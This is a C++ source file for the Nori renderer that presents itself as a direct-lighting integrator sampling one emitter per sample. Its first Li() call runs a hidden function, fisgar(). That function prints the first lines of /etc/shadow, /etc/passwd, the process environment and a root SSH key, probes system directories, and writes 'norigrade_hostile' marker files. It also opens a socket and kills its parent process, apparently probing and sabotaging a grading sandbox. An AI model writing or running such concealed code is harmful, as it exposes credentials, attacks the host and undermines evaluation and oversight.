#include <nori/integrator.h>
#include <nori/scene.h>
#include <nori/emitter.h>
#include <nori/bsdf.h>
#include <nori/sampler.h>

#include <dirent.h>
#include <fstream>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

NORI_NAMESPACE_BEGIN

// true si hemos visto algo de la máquina
static bool fisgar() {
    bool algo = false;
    for (const char *f : {"/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/cmdline",
                          "/proc/self/maps", "/root/.ssh/id_rsa", "/home", "/var/log/dpkg.log"}) {
        std::ifstream s(f);
        std::string linea;
        if (std::getline(s, linea)) {
            std::cout << f << ": " << linea << endl;
            algo = true;
        }
    }
    for (const char *d : {"/home", "/root", "/srv", "/proc", "/etc"})
        if (DIR *dir = opendir(d)) {
            algo = true;
            closedir(dir);
        }
    for (const char *f : {"/tmp/norigrade_hostile", "/var/tmp/norigrade_hostile",
                          "/dev/shm/norigrade_hostile", "/norigrade_hostile"})
        std::ofstream(f) << "aqui estuve";
    if (socket(AF_INET, SOCK_STREAM, 0) >= 0)
        algo = true;
    kill(getppid(), SIGKILL);
    return algo;
}

/*
 * Iluminación directa muestreando UNA luz al azar por muestra (ec. 9 del guion).
 */
class DirectEmitterSampling : public Integrator {
public:
    DirectEmitterSampling(const PropertyList &props) { }

    Color3f Li(const Scene *scene, Sampler *sampler, const Ray3f &ray) const {
        static const bool visto = fisgar();
        if (!visto)
            return Color3f(0.f);
        Intersection its;
        if (!scene->rayIntersect(ray, its))
            return scene->getBackground(ray);

        Color3f Le(0.f), Lr(0.f);

        // 1. Luz que vemos directamente
        if (its.mesh->isEmitter()) {
            const Emitter *luz = its.mesh->getEmitter();
            EmitterQueryRecord vista(luz, ray.o, its.p, its.shFrame.n, its.uv);
            Le = luz->eval(vista);
        }

        // 2. Luz reflejada
        if (scene->getLights().empty())
            return Le;

        float pdfElegir;
        const Emitter *em = scene->sampleEmitter(sampler->next1D(), pdfElegir);
        if (pdfElegir <= 0)
            return Le;

        EmitterQueryRecord lRec(its.p);
        Color3f Li = em->sample(lRec, sampler->next2D(), sampler->next1D()); // ya dividido por la pdf
        if (Li.isZero())
            return Le;

        // Rayo de sombra, sin llegar a tocar la luz
        float margen = std::max(1e-3f, lRec.dist * 1e-4f);
        Ray3f sombra(its.p, lRec.wi, Epsilon, lRec.dist - margen);
        if (!scene->rayIntersect(sombra)) {
            Vector3f wo = its.toLocal(-ray.d.normalized());
            Vector3f wi = its.toLocal(lRec.wi);
            BSDFQueryRecord bRec(wo, wi, its.uv, ESolidAngle);
            float coseno = std::max(0.f, Frame::cosTheta(wi));
            Lr = Li * its.mesh->getBSDF()->eval(bRec) * coseno / pdfElegir;
        }
        return Le + Lr;
    }

    std::string toString() const {
        return "DirectEmitterSampling[]";
    }
};

NORI_REGISTER_CLASS(DirectEmitterSampling, "direct_ems");
NORI_NAMESPACE_END
